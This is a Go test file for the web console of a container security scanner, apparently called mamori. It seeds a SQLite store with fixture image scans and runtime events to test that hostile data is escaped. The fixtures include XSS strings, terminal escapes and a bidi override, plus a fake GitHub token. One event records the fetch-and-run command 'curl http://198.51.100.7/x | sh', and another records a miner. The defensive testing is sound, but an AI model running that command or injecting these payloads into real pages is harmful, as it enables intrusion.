package console

import (
	"context"
	"fmt"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"mamori/internal/auth"
	"mamori/internal/model"
	"mamori/internal/store"
)

// Hostile strings that scanned content can carry into the console: markup
// in package names and paths, terminal escapes, bidi overrides.
const (
	hostilePkg   = `<script>alert("pkg")</script>`
	hostilePath  = "usr/lib/node_modules/\x1b[31m<img src=x onerror=alert(1)>\u202egnp.js"
	hostileImage = `registry.local/evil/<script>alert('img')</script>:latest`
	rawGitHubPAT = "ghp_R3alLooking0Secret1Value2For3Tests4567"
)

var (
	layerBase = "sha256:6a4b7c8e1f0d2c3b4a5968778695a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7"
	layerApp  = "sha256:0f1e2d3c4b5a69788796a5b4c3d2e1f00112233445566778899aabbccddeeff0"
)

func debPkg(name, version, source string) model.Package {
	p := model.Package{
		Name: name, Version: version, Type: model.TypeDeb, Ecosystem: "Debian",
		PURL:       fmt.Sprintf("pkg:deb/debian/%s@%s?arch=amd64&distro=debian-12", name, url.PathEscape(version)),
		SourceName: source, Arch: "amd64", Cataloger: "dpkg", Licenses: []string{"GPL-2.0-or-later"},
		Locations: []model.PackageLocation{{Path: "var/lib/dpkg/status", LayerDiffID: layerBase}},
	}
	return p
}

func debVuln(id string, p model.Package, sev model.Severity, score float64, vector, fixed, summary string, aliases ...string) model.Vulnerability {
	v := model.Vulnerability{
		ID: id, Aliases: aliases,
		Package: model.PackageRef{Name: p.Name, Version: p.Version, Type: p.Type, Ecosystem: "Debian:12",
			PURL: p.PURL, SourceName: p.SourceName, Path: p.Locations[0].Path, Layer: p.Locations[0].LayerDiffID},
		FixedVersion: fixed, Severity: sev, Summary: summary,
		Details:    summary + "\n\nThis advisory is part of the console test fixture; its text follows the upstream record.",
		References: []string{"https://security-tracker.debian.org/tracker/" + strings.TrimPrefix(id, "DEBIAN-"), "https://nvd.nist.gov/vuln/detail/" + strings.TrimPrefix(id, "DEBIAN-")},
		DataSource: "Debian:12",
		Published:  time.Date(2023, 10, 11, 14, 15, 0, 0, time.UTC),
		Modified:   time.Date(2024, 6, 1, 9, 0, 0, 0, time.UTC),
	}
	if vector != "" {
		v.CVSS = []model.CVSS{{Version: "3.1", Vector: vector, Score: score, Source: "nvd"}}
	}
	return v
}

// debianResult is a realistic scan of a Debian 12 application image:
// dpkg packages and an npm dependency, vulnerabilities of every severity,
// secrets (one uploaded unredacted), malware and misconfigurations, and
// hostile names.
func debianResult(name, digest, scanID string, at time.Time) *model.Result {
	libc := debPkg("libc6", "2.36-9+deb12u1", "glibc")
	libssl := debPkg("libssl3", "3.0.11-1~deb12u1", "openssl")
	openssl := debPkg("openssl", "3.0.11-1~deb12u1", "")
	zlib := debPkg("zlib1g", "1:1.2.13.dfsg-1", "zlib")
	curl := debPkg("curl", "7.88.1-10+deb12u3", "")
	libcurl := debPkg("libcurl4", "7.88.1-10+deb12u3", "curl")
	apt := debPkg("apt", "2.6.1", "")
	tar := debPkg("tar", "1.34+dfsg-1.2", "")
	bash := debPkg("bash", "5.2.15-2+b2", "")
	util := debPkg("util-linux", "2.38.1-5+b1", "")
	evil := model.Package{Name: hostilePkg, Version: "1.0.0\x1b[0m", Type: model.TypeNPM, Ecosystem: model.EcosystemNPM,
		PURL: "pkg:npm/evil@1.0.0", Cataloger: "npm-lock",
		Locations: []model.PackageLocation{{Path: hostilePath, LayerDiffID: layerApp}}}
	lodash := model.Package{Name: "lodash", Version: "4.17.20", Type: model.TypeNPM, Ecosystem: model.EcosystemNPM,
		PURL: "pkg:npm/lodash@4.17.20", Cataloger: "npm-lock", Licenses: []string{"MIT"},
		Locations: []model.PackageLocation{{Path: "app/package-lock.json", LayerDiffID: layerApp}}}
	pkgs := []model.Package{libc, libssl, openssl, zlib, curl, libcurl, apt, tar, bash, util, evil, lodash}
	model.SortPackages(pkgs)

	vulns := []model.Vulnerability{
		debVuln("DEBIAN-CVE-2023-38545", curl, model.SeverityCritical, 9.8, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", "7.88.1-10+deb12u4",
			"SOCKS5 heap buffer overflow in curl", "CVE-2023-38545"),
		debVuln("DEBIAN-CVE-2023-38545", libcurl, model.SeverityCritical, 9.8, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", "7.88.1-10+deb12u4",
			"SOCKS5 heap buffer overflow in curl", "CVE-2023-38545"),
		debVuln("DEBIAN-CVE-2023-45853", zlib, model.SeverityCritical, 9.8, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", "",
			"MiniZip in zlib through 1.3 has an integer overflow and resultant heap-based buffer overflow in zipOpenNewFileInZip4_64", "CVE-2023-45853"),
		debVuln("DEBIAN-CVE-2023-4911", libc, model.SeverityHigh, 7.8, "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H", "2.36-9+deb12u3",
			"Looney Tunables: buffer overflow in the GNU C Library's dynamic loader processing GLIBC_TUNABLES", "CVE-2023-4911"),
		debVuln("DEBIAN-CVE-2024-2961", libc, model.SeverityHigh, 8.8, "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H", "2.36-9+deb12u7",
			"iconv() out-of-bounds write when converting to the ISO-2022-CN-EXT character set", "CVE-2024-2961"),
		debVuln("DEBIAN-CVE-2023-5678", libssl, model.SeverityMedium, 5.3, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:L", "3.0.13-1~deb12u1",
			"Excessive time spent in DH check / generation with large Q parameter value", "CVE-2023-5678"),
		debVuln("DEBIAN-CVE-2023-5678", openssl, model.SeverityMedium, 5.3, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:L", "3.0.13-1~deb12u1",
			"Excessive time spent in DH check / generation with large Q parameter value", "CVE-2023-5678"),
		debVuln("DEBIAN-CVE-2023-38546", libcurl, model.SeverityLow, 3.7, "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:N/I:L/A:N", "7.88.1-10+deb12u4",
			"Cookie injection with none file", "CVE-2023-38546"),
		debVuln("DEBIAN-CVE-2022-0563", util, model.SeverityLow, 5.5, "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N", "",
			"chfn and chsh in util-linux read INPUTRC when compiled with readline", "CVE-2022-0563"),
		debVuln("DEBIAN-CVE-2011-3374", apt, model.SeverityNegligible, 3.7, "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:N/I:L/A:N", "",
			"apt-key does not correctly validate keyring downloads", "CVE-2011-3374"),
		debVuln("DEBIAN-CVE-2005-2541", tar, model.SeverityNegligible, 0, "", "",
			"tar does not warn about setuid/setgid files when extracting as root", "CVE-2005-2541"),
		debVuln("DEBIAN-TEMP-0841856-B18BAF", bash, model.SeverityUnknown, 0, "", "",
			"Privilege escalation possible to other user than root"),
		{
			ID: "GHSA-35jh-r3h4-6jhm", Aliases: []string{"CVE-2021-23337"},
			Package: model.PackageRef{Name: lodash.Name, Version: lodash.Version, Type: lodash.Type, Ecosystem: "npm",
				PURL: lodash.PURL, Path: "app/package-lock.json", Layer: layerApp},
			FixedVersion: "4.17.21", Severity: model.SeverityHigh,
			CVSS:    []model.CVSS{{Version: "3.1", Vector: "CVSS:3.1/AV:N/AC:L/PR:H/UI:N/S:U/C:H/I:H/A:H", Score: 7.2, Source: "ghsa"}},
			Summary: "Command Injection in lodash", Details: "lodash versions prior to 4.17.21 are vulnerable to Command Injection via the template function.",
			References: []string{"https://github.com/advisories/GHSA-35jh-r3h4-6jhm", "javascript:alert('ref')"},
			DataSource: "npm", Published: time.Date(2021, 5, 6, 16, 5, 0, 0, time.UTC),
		},
		{
			ID: "GHSA-evil-0000-0000", Package: model.PackageRef{Name: evil.Name, Version: evil.Version, Type: evil.Type,
				Ecosystem: "npm", PURL: evil.PURL, Path: hostilePath, Layer: layerApp},
			Severity: model.SeverityMedium, Summary: `<b>bold</b> summary "quoted" & <script>alert('sum')</script>`,
			DataSource: "npm",
		},
	}
	finds := []model.Finding{
		{Kind: model.KindSecret, ID: "aws-access-key-id", Title: "AWS access key ID", Severity: model.SeverityCritical,
			Category: "AWS", Location: model.Location{Path: "app/.env", LayerDiffID: layerApp, StartLine: 3, EndLine: 3},
			Evidence: "AKIA****(20 chars)", Controls: []string{"4.1.4"}},
		{Kind: model.KindSecret, ID: "github-pat", Title: "GitHub personal access token", Severity: model.SeverityHigh,
			Category: "GitHub", Location: model.Location{Path: "root/.config/gh/hosts.yml", LayerDiffID: layerApp, StartLine: 2},
			Evidence: rawGitHubPAT, Controls: []string{"4.1.4"}}, // uploaded with --show-secrets
		{Kind: model.KindMalware, ID: "Eicar-Test-Signature", Title: "EICAR test file", Severity: model.SeverityCritical,
			Category: "clamav", Engine: "clamav", Location: model.Location{Path: "tmp/eicar.com", LayerDiffID: layerApp}},
		{Kind: model.KindMisconfig, ID: "MSC-IMG-001", Title: "Image runs as root", Severity: model.SeverityMedium,
			Category: "Image config", Location: model.Location{Config: "User"},
			Remediation: "Add a USER instruction with a non-root user.", Controls: []string{"4.4.1", "CIS-Docker-4.1"}},
		{Kind: model.KindMisconfig, ID: "MSC-IMG-006", Title: "No HEALTHCHECK", Severity: model.SeverityLow,
			Category: "Image config", Location: model.Location{Config: "Healthcheck"},
			Remediation: "Add a HEALTHCHECK instruction.", Controls: []string{"CIS-Docker-4.6"}},
	}
	return &model.Result{
		SchemaVersion: model.SchemaVersion,
		Tool:          model.Tool{Name: "mamori", Version: "0.1.0"},
		ScanID:        scanID,
		CreatedAt:     at,
		Target: model.Target{
			Name: name, Type: model.TargetImage, Digest: digest,
			ImageID:  "sha256:3c5a1c2b0f9e8d7c6b5a49382716051f4e3d2c1b0a9f8e7d6c5b4a3928170615",
			RepoTags: []string{name}, Platform: "linux/amd64",
			Layers: []model.Layer{
				{DiffID: layerBase, Size: 29_150_000, CreatedBy: "/bin/sh -c #(nop) ADD file:bookworm-slim in / "},
				{DiffID: layerApp, Size: 4_200_000, CreatedBy: "COPY app/ /app/ # buildkit"},
			},
			Size: 33_350_000,
		},
		Scanners:        []string{"vuln", "secret", "malware", "misconfig"},
		Inventory:       model.Inventory{OS: &model.OS{ID: "debian", VersionID: "12", Codename: "bookworm", PrettyName: "Debian GNU/Linux 12 (bookworm)"}, Packages: pkgs},
		Vulnerabilities: vulns,
		Findings:        finds,
		Warnings:        []string{"clamd: 1 file over the size cap was not scanned"},
		DB:              &model.DBInfo{BuiltAt: at.Add(-6 * time.Hour), Ecosystems: []string{"Debian", "npm"}},
	}
}

// env is a console over a real SQLite store, served by httptest.
type env struct {
	t      *testing.T
	st     store.Store
	authn  *auth.Authenticator
	srv    *httptest.Server
	tokens map[auth.Role]string
	syncs  []int64
	imgID  int64
}

// newEnv opens a fresh SQLite store, ingests the fixture images and
// creates one token per role.
func newEnv(t *testing.T, opts ...Option) *env {
	t.Helper()
	ctx := context.Background()
	st, err := store.Open(ctx, filepath.Join(t.TempDir(), "mamori.db"))
	if err != nil {
		t.Fatalf("open store: %v", err)
	}
	t.Cleanup(func() { _ = st.Close() })
	a, err := auth.New(st)
	if err != nil {
		t.Fatal(err)
	}
	e := &env{t: t, st: st, authn: a, tokens: map[auth.Role]string{}}
	now := time.Now().UTC()
	for i, img := range []struct{ name, digest string }{
		{"registry.local/payments/api:1.4.2", "sha256:1111111111111111111111111111111111111111111111111111111111111111"},
		{"registry.local/web/frontend:2024.06", "sha256:2222222222222222222222222222222222222222222222222222222222222222"},
		{hostileImage, "sha256:3333333333333333333333333333333333333333333333333333333333333333"},
	} {
		out, err := st.IngestScan(ctx, debianResult(img.name, img.digest, fmt.Sprintf("scan-%d", i), now.Add(-time.Duration(i+1)*time.Hour)))
		if err != nil {
			t.Fatalf("ingest %s: %v", img.name, err)
		}
		if i == 0 {
			e.imgID = out.ImageID
		}
	}
	for _, role := range []auth.Role{auth.RoleAdmin, auth.RoleOperator, auth.RoleViewer} {
		tok, rec, err := auth.NewToken("console-"+string(role), role, "", time.Time{})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := st.CreateToken(ctx, rec); err != nil {
			t.Fatal(err)
		}
		e.tokens[role] = tok
	}
	if _, err := st.InsertEvents(ctx, fixtureEvents(now)); err != nil {
		t.Fatalf("events: %v", err)
	}
	opts = append([]Option{
		WithVersion("0.1.0-test"),
		WithRegistrySecrets(func(p []byte) ([]byte, error) { return append([]byte("sealed:"), reverse(p)...), nil }),
		WithRegistrySync(func(_ context.Context, id int64) error { e.syncs = append(e.syncs, id); return nil }),
	}, opts...)
	c, err := New(st, a, opts...)
	if err != nil {
		t.Fatal(err)
	}
	e.srv = httptest.NewServer(c)
	t.Cleanup(e.srv.Close)
	return e
}

func reverse(b []byte) []byte {
	out := make([]byte, len(b))
	for i := range b {
		out[len(b)-1-i] = b[i]
	}
	return out
}

// client is a browser-like client: a cookie jar, no redirects followed
// automatically unless follow is set.
type client struct {
	e    *env
	hc   *http.Client
	csrf string
}

func (e *env) anon() *client {
	jar, _ := cookiejar.New(nil)
	return &client{e: e, hc: &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}}
}

// login logs in through the login form with role's token.
func (e *env) login(role auth.Role) *client {
	e.t.Helper()
	c := e.anon()
	code, body, _ := c.get("/login")
	if code != http.StatusOK {
		e.t.Fatalf("GET /login: %d", code)
	}
	lc := fieldValue(body, "login_csrf")
	code, _, hdr := c.post("/login", url.Values{"token": {e.tokens[role]}, "login_csrf": {lc}})
	if code != http.StatusSeeOther || hdr.Get("Location") != "/images" {
		e.t.Fatalf("login as %s: %d %s", role, code, hdr.Get("Location"))
	}
	code, body, _ = c.get("/images")
	if code != http.StatusOK {
		e.t.Fatalf("GET /images after login: %d", code)
	}
	c.csrf = fieldValue(body, "csrf_token")
	if c.csrf == "" {
		e.t.Fatal("no CSRF token in the page after login")
	}
	return c
}

func (c *client) get(path string) (int, string, http.Header) {
	c.e.t.Helper()
	resp, err := c.hc.Get(c.e.srv.URL + path)
	if err != nil {
		c.e.t.Fatalf("GET %s: %v", path, err)
	}
	return readResp(c.e.t, resp)
}

func (c *client) post(path string, form url.Values) (int, string, http.Header) {
	c.e.t.Helper()
	resp, err := c.hc.PostForm(c.e.srv.URL+path, form)
	if err != nil {
		c.e.t.Fatalf("POST %s: %v", path, err)
	}
	return readResp(c.e.t, resp)
}

// postCSRF posts form with the session's CSRF token.
func (c *client) postCSRF(path string, form url.Values) (int, string, http.Header) {
	c.e.t.Helper()
	if form == nil {
		form = url.Values{}
	}
	form.Set("csrf_token", c.csrf)
	return c.post(path, form)
}

func readResp(t *testing.T, resp *http.Response) (int, string, http.Header) {
	t.Helper()
	defer resp.Body.Close()
	var b strings.Builder
	buf := make([]byte, 32<<10)
	for {
		n, err := resp.Body.Read(buf)
		b.Write(buf[:n])
		if err != nil {
			break
		}
	}
	// Line-break hints (brk) split identifiers; the assertions read text.
	return resp.StatusCode, strings.ReplaceAll(b.String(), "<wbr>", ""), resp.Header
}

var fieldRE = regexp.MustCompile(`name="([a-z_]+)" value="([^"]*)"`)

func fieldValue(body, name string) string {
	for _, m := range fieldRE.FindAllStringSubmatch(body, -1) {
		if m[1] == name {
			return m[2]
		}
	}
	return ""
}

func newTestServer(t *testing.T, h http.Handler) *httptest.Server { return newTestServerTB(t, h) }

func newTestServerTB(tb testing.TB, h http.Handler) *httptest.Server {
	tb.Helper()
	s := httptest.NewServer(h)
	tb.Cleanup(s.Close)
	return s
}

// hostileEventMessage is an event message that would run script if the
// Events page did not escape it.
const hostileEventMessage = `<script>alert('event')</script> executed`

// fixtureEvents are events of every source, as the cluster component and
// the node agents deliver them.
func fixtureEvents(now time.Time) []store.EventRecord {
	mk := func(id string, ago time.Duration, e model.Event) store.EventRecord {
		e.ID, e.Time = id, now.Add(-ago)
		return store.EventRecord{Event: e, ReceivedAt: now, ReportedBy: "prod agents"}
	}
	return []store.EventRecord{
		mk("ev-shell", 5*time.Minute, model.Event{Source: model.SourceRuntime, Module: "sensor", Cluster: "prod", Node: "node-1",
			Namespace: "payments", Pod: "api-7d9f", Workload: &model.WorkloadRef{Kind: "Deployment", Name: "api"},
			Container: &model.ContainerRef{ID: "3f2a", Name: "api", Image: "registry.local/payments/api:1.4.2"},
			Rule:      model.RuleRef{ID: "shell-in-container", Title: "Shell started in a container"}, Tactic: "TA0002", Technique: "T1059.004",
			Severity: model.SeverityHigh, Action: model.ActionLog, Message: "bash started by java in payments/api",
			Process: &model.Process{PID: 4242, Exe: "/bin/bash", Args: []string{"bash", "-c", "curl http://198.51.100.7/x | sh"}, Ancestors: []string{"/usr/bin/java"}}}),
		mk("ev-drift", 20*time.Minute, model.Event{Source: model.SourceRuntime, Module: "drift", Cluster: "prod", Node: "node-2",
			Namespace: "web", Pod: "frontend-1", Container: &model.ContainerRef{ID: "9c1b", Name: "frontend", Image: "registry.local/web/frontend:2024.06"},
			Rule: model.RuleRef{ID: "drift-exec", Title: "Executable not in the image"}, Tactic: "TA0005", Technique: "T1036",
			Severity: model.SeverityCritical, Action: model.ActionTerminate, Message: "/tmp/xmrig executed: not in the image layers",
			Process: &model.Process{PID: 77, Exe: "/tmp/xmrig"}, File: &model.FileRef{Path: "/tmp/xmrig", SHA256: strings.Repeat("ab", 32)}}),
		mk("ev-admission", time.Hour, model.Event{Source: model.SourceAdmission, Module: "webhook", Cluster: "prod", Namespace: "web",
			Workload: &model.WorkloadRef{Kind: "Deployment", Name: "frontend"}, Rule: model.RuleRef{ID: "no-latest-tag", Title: "Image tag latest", Policy: "baseline"},
			Severity: model.SeverityMedium, Action: model.ActionBlock, Message: "image registry.local/web/frontend:latest uses the tag latest"}),
		mk("ev-host", 2*time.Hour, model.Event{Source: model.SourceHost, Module: "antimalware", Host: "bastion",
			Rule: model.RuleRef{ID: "malware-detected"}, Severity: model.SeverityCritical, Action: model.ActionQuarantine,
			Message: hostileEventMessage, File: &model.FileRef{Path: "/home/ops/eicar.com"}, Details: map[string]string{"signature": "Eicar-Test-Signature"}}),
	}
}
